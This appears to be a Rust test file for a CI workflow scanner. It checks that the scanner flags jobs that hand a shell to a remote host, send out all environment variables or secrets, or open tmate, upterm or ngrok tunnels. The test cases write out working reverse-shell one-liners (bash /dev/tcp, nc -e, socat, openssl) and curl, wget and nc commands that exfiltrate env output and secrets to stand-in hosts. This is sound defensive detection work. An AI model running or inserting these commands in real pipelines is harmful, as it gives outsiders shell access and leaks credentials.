//! What opens a job to the net, and what sends away all that it knows.

use super::*;

fn script(lines: &str) -> Vec<String> {
    let lines = lines.lines().map(|line| format!("    {line}\n")).collect::<String>();
    shown(&of_github("outlets", &job(&format!("- run: |\n{lines}"))), &["does", "tool"])
}

#[test]
fn shells_that_a_job_hands_to_a_host() {
    for (lines, expected) in [
        ("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", "shell | bash"),
        ("/bin/sh -i 5<> /dev/tcp/a.example/4444 0<&5 1>&5 2>&5", "shell | sh"),
        ("bash -c 'bash -i >& /dev/tcp/a.example/8080 0>&1'", "shell | bash"),
        ("exec 5<>/dev/tcp/a.example/443\ncat <&5 | while read line; do $line 2>&5 >&5; done", "shell | exec"),
        ("exec 196<>/dev/tcp/a.example/443; sh <&196 >&196 2>&196", "shell | exec"),
        ("cat /tmp/f | /bin/sh -i 2>&1 | nc a.example 4242 >/tmp/f", "shell | nc"),
        ("nc -e /bin/sh a.example 4242", "shell | nc"),
        ("sudo ncat a.example 4242 --sh-exec bash", "shell | ncat"),
        ("nc -nve /bin/bash 198.51.100.7 1", "shell | nc"),
        ("socat exec:'bash -li',pty,stderr tcp:a.example:4242", "shell | socat"),
        (
            "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect a.example:443 > /tmp/s",
            "shell | openssl",
        ),
    ] {
        assert_eq!(script(lines), [expected], "{lines}");
    }
    for lines in [
        "bash -i >& /dev/tcp/localhost/4444",
        "timeout 1 bash -c '</dev/tcp/a.example/5432'",
        "echo x > /dev/udp/a.example/8125",
        "exec 3<>/dev/tcp/a.example/5432; make",
        "nc -z a.example 5432",
        "bash report.sh | nc a.example 514",
        "bash -c 'make' | nc a.example 514",
        "echo x | nc a.example 514",
        "nc -e /bin/cat a.example 1",
        "nc -l -p 80 -e /bin/sh",
        "socat TCP-LISTEN:1,fork UNIX-CONNECT:/run/x.sock",
        "socat exec:date tcp:a.example:1",
        "if false; then nc -e /bin/sh a.example 1; fi",
    ] {
        assert_eq!(script(lines), [""; 0], "{lines}");
    }
}

#[test]
fn all_variables_or_secrets_that_are_sent() {
    for (lines, expected) in [
        ("env | curl -d @- https://a.example", "variables | curl"),
        ("printenv | base64 | nc a.example 80", "variables | nc"),
        ("export -p | gzip | curl --data-binary @- https://a.example", "variables | curl"),
        ("curl -d \"$(env)\" https://a.example", "variables | curl"),
        ("wget \"https://a.example/?x=$(printenv | base64)\"", "variables | wget"),
        ("env > all.txt\ncurl -F f=@all.txt https://a.example", "variables | curl"),
        ("set | tee all.txt | sort > b.txt\ncurl -T b.txt https://a.example", "variables | curl"),
        ("cat /proc/self/environ | curl -d @- $URL", "variables | curl"),
        ("curl -d '${{ toJSON(secrets) }}' https://a.example", "secrets | curl"),
        ("echo '${{ toJson(secrets) }}' | base64 | curl -d @- https://a.example", "secrets | curl"),
    ] {
        assert_eq!(script(lines), [expected], "{lines}");
    }
    for lines in [
        "env | sort",
        "env | grep ^BUILD_ | curl -d @- https://a.example",
        "curl -d \"$(env | grep ^BUILD_)\" https://a.example",
        "env | curl -d @- http://localhost/",
        "printenv HOME | curl -d @- https://a.example",
        "curl -H \"Authorization: $TOKEN\" https://a.example",
        "env > all.txt\ncurl -d @other.txt https://a.example",
        "env A=b curl https://a.example",
        "curl -d '${{ toJSON(github) }}' https://a.example",
        "echo '${{ toJSON(secrets) }}' > all.json",
    ] {
        assert_eq!(script(lines), [""; 0], "{lines}");
    }
    let held = "- run: curl -d \"$ALL\" https://a.example\n  env: {ALL: '${{ toJSON(secrets) }}'}";
    assert_eq!(shown(&of_github("outlets", &job(held)), &["does"]), ["secrets"]);
}

#[test]
fn tunnels_for_everybody_or_for_some() {
    let action = |name: &str, with: &str| {
        let steps = format!("- uses: {name}\n  with: {with}\n- run: x\n  env: {{A: '${{{{ secrets.A }}}}'}}");
        shown(&of_github("outlets", &job(&steps)), &["tool", "limited", "holds"])
    };
    assert_eq!(action("mxschmitt/action-tmate@v3", "{}"), ["tmate | false | [\"secrets\"]"]);
    assert_eq!(action("Mxschmitt/action-tmate@v3", "{limit-access-to-actor: auto}"), ["tmate | false | [\"secrets\"]"]);
    assert_eq!(action("mxschmitt/action-tmate@v3", "{limit-access-to-actor: true}"), ["tmate | true | [\"secrets\"]"]);
    assert_eq!(action("lhotari/action-upterm@v1", "{limit-access-to-users: a}"), ["upterm | true | [\"secrets\"]"]);
    let open = action("lhotari/action-upterm@v1", "{limit-access-to-actor: '${{ inputs.x }}'}");
    assert_eq!(open, ["upterm | null | [\"secrets\"]"]);
    assert_eq!(action("acme/other@v1", "{}"), [""; 0]);
    assert_eq!(script("tmate -F"), ["tunnel | tmate"]);
    assert_eq!(script("ngrok tcp 22"), ["tunnel | ngrok"]);
    assert_eq!(script("ngrok http 3000"), [""; 0]);
    let found = of_gitlab("outlets", "a: {script: [upterm host --github-user a]}\n");
    assert_eq!(shown(&found, &["limited"]), ["true"]);
}
